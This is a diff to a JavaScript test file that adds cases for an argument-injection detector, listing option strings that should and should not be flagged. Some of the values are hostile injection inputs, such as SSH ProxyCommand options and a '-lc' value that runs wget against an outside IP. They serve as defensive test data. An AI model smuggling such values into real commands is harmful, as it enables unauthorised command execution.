@@ -39,6 +39,9 @@ test.each([
   'ann@example.org:-oProxyCommand=id',
   'example.org -oProxyCommand=id',
   '-u touch /tmp/x',
+  "-c 'uname -a'",
+  '-lc "wget http://203.0.113.9/a"',
+  "-c 'expr 81 + 17'",
   '--no-sandbox --gpu-launcher=id',
 ])('an option that runs, reads or writes is found: %s', (value) => {
   expect(argumentInjection(read(value))).not.toBeNull();
@@ -72,6 +75,10 @@ test.each([
   'ssh -oProxyCommand=id example.org',
   'example.org -oPort=22',
   '-u ann touch',
+  "-c 'select 1'",
+  "-c 'name of it'",
+  '-c "npm run build"',
+  "-m 'uname of ann'",
   '-m fixes the sort of names',
 ])('another value with a dash is none: %s', (value) => {
   expect(argumentInjection(read(value))).toBeNull();
